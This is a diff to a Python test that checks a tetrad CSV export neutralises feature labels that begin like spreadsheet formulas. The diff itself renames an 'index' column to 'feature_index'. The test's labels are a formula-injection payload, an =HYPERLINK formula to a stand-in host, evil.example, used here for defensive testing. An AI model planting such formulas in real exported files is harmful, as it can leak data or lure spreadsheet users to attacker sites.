@@ -471,7 +471,7 @@ def test_tetrad_csv_neutralises_labels_that_start_like_a_formula(demo_run, tmp_p
     d = shutil.copytree(demo_run, tmp_path / "run")
     run = fg_api.open_run(d)
     f = run.features
-    run.label(label_table=pd.DataFrame({"model": [i.split("/")[0] for i in f["id"]], "sae": f["sae"], "index": f["index"],
+    run.label(label_table=pd.DataFrame({"model": [i.split("/")[0] for i in f["id"]], "sae": f["sae"], "feature_index": f["feature_index"],
                                         "description": [f"=HYPERLINK(\"http://evil.example/{i}\") @{i}" for i in range(len(f))],
                                         "explainer": "test"}))
     r = fg("tetrads", d, "--head", 0, "--circuit", "ov", "--out", tmp_path / "t.csv")
